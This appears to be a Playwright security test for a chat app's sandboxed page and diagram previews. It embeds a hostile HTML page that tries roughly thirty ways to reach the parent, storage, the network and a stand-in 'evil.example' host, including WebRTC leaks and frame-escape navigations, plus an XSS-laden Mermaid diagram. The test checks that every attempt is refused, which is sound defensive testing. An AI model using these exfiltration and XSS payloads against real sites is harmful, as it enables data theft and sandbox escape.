// Previews of pages and diagrams in answers. A hostile page may run its scripts in the frame, and reaches nothing else: not the interface,
// not the storage, not the network. Servers that listen record every byte.
import { createSocket } from "node:dgram";
import { mkdirSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { faults } from "./axe.mjs";
import { check, open } from "./browser.mjs";
import { text } from "./words.mjs";

const OUT = join(import.meta.dirname, "out");
const TITLE = "Previews";

const PAGE = `<!DOCTYPE html>
<html><head><style>body { font-family: sans-serif; margin: 1rem } button { padding: .5rem }</style></head>
<body><h1>Counter</h1><button onclick="document.querySelector('p').textContent = ++count">Add</button><p>0</p><script>let count = 0</script></body></html>`;

const DIAGRAM = `flowchart LR
  Request --> Cache{cached?}
  Cache -->|yes| Restore --> Answer
  Cache -->|no| Compute --> Answer`;

const HOSTILE_DIAGRAM = `flowchart LR
  A["<img src=x onerror='window.owned = 1; parent.parent.postMessage({ owned: 1 }, String.fromCharCode(42))'>"] --> B
  click A href "javascript:parent.owned=1"
  click B call owned()`;

/** Each attempt to reach something; its result is a text. An attempt that throws was refused. */
const hostilePage = (tcp, udp) => `<script>
const url = (name) => "http://evil.example:${tcp}/" + name;
const results = {};
const attempts = {
  parent: () => parent.parent.document.title,
  outer: () => parent.document.title,
  storage: () => (localStorage.x = 1, "stored"),
  session: () => (sessionStorage.x = 1, "stored"),
  cookie: () => (document.cookie = "a=b", document.cookie === "" ? Promise.reject("no cookie") : "set"),
  database: () => new Promise((done, refused) => { const r = indexedDB.open("x"); r.onsuccess = () => done("opened"); r.onerror = refused; }),
  daemon: () => fetch("DAEMON/api/tags").then((r) => r.text()),
  fetch: () => fetch(url("fetch"), { mode: "no-cors" }).then(() => "sent"),
  xhr: () => new Promise((done, refused) => { const r = new XMLHttpRequest(); r.onload = () => done("sent"); r.onerror = refused; r.open("GET", url("xhr")); r.send(); }),
  beacon: () => (navigator.sendBeacon(url("beacon")), Promise.reject("only the server knows")),
  socket: () => new Promise((done, refused) => { const s = new WebSocket(url("socket").replace("http", "ws")); s.onopen = () => done("open"); s.onerror = refused; }),
  events: () => new Promise((done, refused) => { const s = new EventSource(url("events")); s.onopen = () => done("open"); s.onerror = refused; }),
  image: () => new Promise((done, refused) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = refused; i.src = url("image.png"); }),
  script: () => new Promise((done, refused) => { const s = document.createElement("script"); s.onload = () => done("loaded"); s.onerror = refused; s.src = url("script.js"); document.head.append(s); }),
  module: () => import(url("module.js")).then(() => "loaded"),
  style: () => new Promise((done, refused) => { const l = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url("style.css") }); l.onload = () => done("loaded"); l.onerror = refused; document.head.append(l); }),
  font: () => new FontFace("x", "url(" + url("font.woff2") + ")").load().then(() => "loaded"),
  worker: () => new Promise((done, refused) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => done("ran"); w.onerror = refused; }),
  video: () => new Promise((done, refused) => { const v = document.createElement("video"); v.onloadeddata = () => done("loaded"); v.onerror = refused; v.src = url("video.mp4"); }),
  popup: () => (open(url("popup")) ? "opened" : Promise.reject("no window")),
  dialog: () => (confirm("x") ? "confirmed" : Promise.reject("no dialog")),
  top: () => (top.location = url("top"), "navigated"),
  outerAway: () => (parent.location = url("outer"), "navigated"),
  rtc: () => new Promise((done, refused) => {
    const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });
    c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); c.onicegatheringstatechange = () => c.iceGatheringState === "complete" && done("gathered");
  }),
};
const all = Object.entries(attempts).map(async ([name, attempt]) => {
  try { results[name] = "REACHED " + await Promise.race([attempt(), new Promise((_, refused) => setTimeout(refused, 4000, "no answer"))]); }
  catch (error) { results[name] = "refused"; }
});
// What only the server can count.
for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest"])
  document.head.append(Object.assign(document.createElement("link"), { rel, href: url("link-" + rel), as: "image" }));
document.write('<style>@import "' + url("import.css") + '"; body { background: url(' + url("background.png") + ') } </style>');
document.write('<form method=post action="' + url("form") + '"><input name=a value=b></form><object data="' + url("object") + '"></object><embed src="' + url("embed") + '">');
document.write('<iframe src="' + url("frame") + '"></iframe><iframe srcdoc="&lt;script&gt;try { const c = new RTCPeerConnection({ iceServers: [{ urls: \\'stun:127.0.0.1:${udp}\\' }] }); c.createDataChannel(\\'x\\'); c.createOffer().then((o) => c.setLocalDescription(o)) } catch {} fetch(\\'' + url("nested") + '\\')&lt;/script&gt;"></iframe>');
document.write('<a id=away href="' + url("link") + '" target=_blank ping="' + url("ping") + '">x</a><a id=self href="' + url("self") + '" ping="' + url("ping2") + '">y</a><a id=save download href="' + url("save") + '">z</a><div id=results></div>');
const quietly = (act) => { try { act(); } catch {} };
quietly(() => document.forms[0].submit());
quietly(() => document.getElementById("away").click());
quietly(() => parent.parent.postMessage({ height: 1e9, html: "<b>x</b>", ready: true }, "*"));
quietly(() => parent.postMessage({ html: "<b id=replaced>replaced</b>", height: "1e9" }, "*"));
Promise.all(all).then(() => (document.getElementById("results").textContent = JSON.stringify(results)));
// Each leaves the frame, so the test calls them one by one.
window.ways = [
  () => document.getElementById("self").click(),
  () => document.getElementById("save").click(),
  () => (location = url("leave?data=secret")),
  () => location.replace("data:text/html,<script>fetch('" + url("data") + "')<" + "/script>"),
  () => (location = "DAEMON/api/tags"),
  () => document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0; url=" + url("refresh") })),
  () => history.pushState(null, "", url("history")),
];
</script>`;

/** Pages that make a nested frame for WebRTC, which no policy covers. */
function nestedFrames(udp) {
  const connect = `const c = new RTCPeerConnection({ iceServers: [{ urls: String.fromCharCode(${[...`stun:127.0.0.1:${udp}`].map((letter) => letter.charCodeAt(0))}) }] }); c.createDataChannel(1); c.createOffer().then((o) => c.setLocalDescription(o))`;
  const frame = `const f = document.createElement("iframe"); f.srcdoc = "<script>${connect}<" + "/script>";`;
  const closed = `"<div><template shadow" + "rootmode=closed><iframe srcdoc='<script>${connect}<\\/script>'></iframe></template></div>"`;
  return [
    `<script>${connect}</script>`,
    `<iframe srcdoc="<script>${connect}</script>"></iframe>`,
    `<script>${frame} document.documentElement.append(f)</script>`,
    `<div id=d></div><script>d.innerHTML = "<iframe srcdoc='<script>${connect}<\\/script>'></iframe>"</script>`,
    `<script>${frame} const d = document.createElement("div"); document.documentElement.append(d); d.attachShadow({ mode: "closed" }).append(f)</script>`,
    `<div><template ShadowRootMode=closed><iframe srcdoc="<script>${connect}</script>"></iframe></template></div>`,
    `<div id=d></div><script>d.setHTMLUnsafe(${closed})</script>`,
    `<script>document.body.append(...Document.parseHTMLUnsafe(${closed}).body.children)</script>`,
    `<script>document.write(${closed})</script>`,
    `<script>Element.prototype.remove = () => {}; Document.prototype.querySelectorAll = () => []; Function.prototype.call = () => {}; Object.defineProperty(NodeList.prototype, "length", { get: () => 0 }); ${frame} document.documentElement.append(f)</script>`,
  ];
}

const fenced = (language, code) => `\`\`\`${language}\n${code}\n\`\`\``;

function chat(hostile, nested) {
  const at = new Date().toISOString();
  const content = ["One page:", fenced("html", PAGE), "A diagram:", fenced("mermaid", DIAGRAM), "And others:", fenced("html", hostile), fenced("mermaid", HOSTILE_DIAGRAM), fenced("mermaid", "flowchart LR\n  A --"), fenced("rust", "fn main() {}")].join("\n\n");
  const messages = [
    { id: "q", role: "user", content: "Show me pages", created_at: at, state: "complete" },
    { id: "a", parent: "q", role: "assistant", content, model: "pebble", created_at: at, state: "complete" },
    { id: "q2", parent: "a", role: "user", content: "More pages", created_at: at, state: "complete" },
    { id: "a2", parent: "q2", role: "assistant", content: nested.map((page) => fenced("html", page)).join("\n\n"), model: "pebble", created_at: at, state: "complete" },
  ];
  return { format: "cairn-chats", version: 1, exported_at: at, chats: [{ id: "previews", title: TITLE, pinned: false, created_at: at, updated_at: at, head: "a2", messages }] };
}

/** Listens on TCP and UDP, and records what arrives. For a navigation that the policy refuses, Chromium connects and sends nothing. */
async function listeners() {
  const reached = [];
  const server = createServer((socket) => {
    socket.on("data", (data) => reached.push(String(data).split("\r\n")[0])).on("error", () => {});
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const udp = createSocket("udp4", () => {}).on("message", () => reached.push("packet"));
  await new Promise((done) => udp.bind(0, "127.0.0.1", done));
  return { reached, tcp: server.address().port, udp: udp.address().port, close: () => (server.close(), udp.close()) };
}

/** Waits for a frame below the outer one of a preview. */
async function inner(page, at, is, blocks = page.locator("article.assistant:not(.latest) .code-block")) {
  for (let tries = 0; tries < 400; tries += 1) {
    const element = await blocks.nth(at).locator("iframe").elementHandle();
    const frame = (await element.contentFrame())?.childFrames()[0];
    if (frame !== undefined && (await frame.evaluate(is).catch(() => false))) return frame;
    await page.waitForTimeout(50);
  }
  throw new Error(`preview ${at} did not get ready`);
}

export async function previews(browser, daemon) {
  console.log("previews");
  mkdirSync(OUT, { recursive: true });
  const servers = await listeners();
  const hostile = hostilePage(servers.tcp, servers.udp).replaceAll("DAEMON", daemon.address);
  await daemon.app("POST", "/app/chats/import", { export: chat(hostile, nestedFrames(servers.udp)) });
  const id = (await daemon.app("GET", "/app/chats")).chats.find((one) => one.title === TITLE).id;
  const { page, noted, context } = await open(browser, daemon);
  const loaded = [];
  page.on("request", (request) => loaded.push(request.url()));
  await page.goto(`${daemon.address}/ui/#/chat/${id}`);
  const blocks = page.locator("article.assistant:not(.latest) .code-block");
  await blocks.nth(5).waitFor();
  const button = (at) => blocks.nth(at).locator(`button:has-text('${text("chat.preview")}')`);
  check((await button(5).count()) === 0, "Rust code has no preview");
  check((await page.locator("iframe").count()) === 0 && !loaded.some((url) => /mermaid|preview\.html/.test(url)), "nothing of a preview is loaded before it is requested");

  await button(0).click();
  const counter = await inner(page, 0, () => document.querySelector("h1")?.textContent === "Counter");
  await counter.click("button");
  check((await counter.textContent("p")) === "1", "a page runs its scripts in the frame");
  check((await button(0).getAttribute("aria-pressed")) === "true" && (await blocks.nth(0).locator("pre").count()) === 0, "the preview replaces the code");
  check(!loaded.some((url) => /mermaid/.test(url)), "a page does not load Mermaid");
  await button(1).click();
  const drawn = await inner(page, 1, () => document.querySelector("svg .node") !== null);
  check((await drawn.textContent("svg")).includes("Restore"), "a diagram is drawn");
  check(loaded.some((url) => url.startsWith(daemon.address) && /mermaid/.test(url)), "Mermaid is loaded from the daemon");
  await page.waitForFunction(() => document.querySelector("iframe.diagram").style.height !== "");
  await button(4).click();
  await inner(page, 4, () => /error/i.test(document.querySelector("pre")?.textContent ?? ""));
  check(true, "a diagram with a fault shows the reason");
  await button(3).click();
  const sly = await inner(page, 3, () => document.querySelector("svg, pre") !== null);
  check((await sly.evaluate(() => window.owned)) === undefined, "a diagram runs no script");
  const bad = await faults(page);
  await blocks.nth(0).scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(OUT, "previews-light.png") });
  await page.setViewportSize({ width: 400, height: 800 });
  await blocks.nth(1).scrollIntoViewIfNeeded();
  await inner(page, 1, () => document.querySelector("svg")?.getBoundingClientRect().width < 400);
  await page.waitForTimeout(300);
  await page.screenshot({ path: join(OUT, "previews-400.png") });
  bad.push(...(await faults(page)));
  await page.setViewportSize({ width: 1440, height: 900 });

  const address = page.url();
  await page.evaluate(() => (window.heights = []));
  await button(2).click();
  const attacker = await inner(page, 2, () => (document.getElementById("results")?.textContent ?? "") !== "");
  const results = JSON.parse(await attacker.textContent("#results"));
  const reached = Object.entries(results).filter(([, result]) => result.startsWith("REACHED"));
  check(Object.keys(results).length >= 24 && reached.length === 0, `${Object.keys(results).length} attempts of a page were refused ${JSON.stringify(reached)}`);
  check((await attacker.evaluate(() => document.getElementById("replaced"))) === null, "a page cannot replace its frame by a message");
  // Each way to leave needs a new frame.
  const ways = await attacker.evaluate(() => window.ways.length);
  for (let at = 0; at < ways; at += 1) {
    await button(2).click();
    await button(2).click();
    const leaving = await inner(page, 2, () => (document.getElementById("results")?.textContent ?? "") !== "");
    await leaving.evaluate((way) => void setTimeout(window.ways[way]), at);
    // A connection would arrive within this time.
    await page.waitForTimeout(700);
  }
  check(servers.reached.length === 0, `no request and no packet arrived, also by ${ways} ways to leave ${servers.reached.join(", ")}`);
  check(page.url() === address && (await page.evaluate(() => window.owned)) === undefined, "the interface stays where it was");
  check((await context.pages()).length === 1 && noted.dialogs.length === 0, "no window and no dialog opened");
  const frame = await blocks.nth(2).locator("iframe").evaluate((element) => ({ sandbox: element.getAttribute("sandbox"), height: element.offsetHeight }));
  check(frame.sandbox === "allow-scripts" && frame.height < 800, `the frame has no origin, and its page does not set its height (${frame.height} px)`);
  await button(2).click();
  const nested = page.locator("article.latest .code-block");
  await page.$eval(".thread", (thread) => (thread.scrollTop = thread.scrollHeight));
  await nested.first().waitFor();
  const buttons = await nested.locator(`button:has-text('${text("chat.preview")}')`).all();
  for (const one of buttons) await one.click();
  for (const [at] of buttons.entries()) {
    const frame = await inner(page, at, () => document.readyState === "complete", nested);
    check((await frame.evaluate(() => frames.length)) === 0, `page ${at + 1} has no nested frame`);
  }
  await page.waitForTimeout(1500);
  check(servers.reached.length === 0, `no packet of WebRTC from ${buttons.length} pages ${servers.reached.join(", ")}`);
  await page.$eval(".thread", (thread) => (thread.scrollTop = 0));
  await blocks.nth(2).locator("pre").waitFor();
  check(true, "the code is shown again");
  servers.close();
  await context.close();

  for (const theme of ["dark", "contrast"]) {
    const other = await open(browser, daemon, { theme });
    await other.page.goto(`${daemon.address}/ui/#/chat/${id}`);
    for (const at of [0, 1]) await other.page.locator("article.assistant:not(.latest) .code-block").nth(at).locator(`button:has-text('${text("chat.preview")}')`).click();
    const dark = await inner(other.page, 1, () => document.querySelector("svg .node") !== null);
    check((await dark.evaluate(() => getComputedStyle(document.documentElement).colorScheme)) === "dark", `a diagram is dark in the theme ${theme}`);
    await other.page.waitForFunction(() => document.querySelector("iframe.diagram").style.height !== "");
    await other.page.screenshot({ path: join(OUT, `previews-${theme}.png`) });
    bad.push(...(await faults(other.page)));
    await other.context.close();
  }
  check(bad.length === 0, `no accessibility or layout fault ${bad.join(" | ")}`);
}
